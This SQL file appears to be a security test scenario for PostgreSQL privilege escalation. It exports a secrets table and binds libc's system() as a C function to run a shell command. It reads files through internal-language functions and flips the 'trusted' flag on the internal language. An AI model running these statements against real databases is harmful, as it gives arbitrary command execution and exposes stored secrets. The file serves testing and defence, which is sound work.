-- way: make functions of PostgreSQL's own C code or of a library
-- source: write-up: PostgreSQL, user-defined functions that call the C library (2009)
-- control: the language internal is marked as trusted
-- section: setup
DO $$ BEGIN EXECUTE format('COPY vault.secrets TO %L', current_setting('data_directory') || '/vault.csv'); END $$;
-- section: application
CREATE FUNCTION shop.system(cstring) RETURNS int LANGUAGE c STRICT AS '/lib/x86_64-linux-gnu/libc.so.6', 'system';
SELECT shop.system('touch /tmp/climb_system');
CREATE FUNCTION pg_temp.read(text) RETURNS text LANGUAGE internal AS 'pg_read_file_all';
SELECT pg_temp.read('vault.csv');
CREATE FUNCTION shop.read(text) RETURNS text LANGUAGE internal AS 'pg_read_file_all';
SELECT shop.read('vault.csv');
CREATE LANGUAGE climb HANDLER plpgsql_call_handler;
CREATE TRUSTED LANGUAGE climb HANDLER plpgsql_call_handler;
CREATE TYPE shop.base (INPUT = textin, OUTPUT = textout);
CREATE OPERATOR CLASS shop.o DEFAULT FOR TYPE text USING hash AS FUNCTION 1 hashtext(text);
CREATE ACCESS METHOD climb TYPE TABLE HANDLER heap_tableam_handler;
CREATE TRANSFORM FOR int LANGUAGE sql (FROM SQL WITH FUNCTION int4recv(internal));
-- section: control
SET allow_system_table_mods = on;
UPDATE pg_language SET lanpltrusted = true WHERE lanname = 'internal';
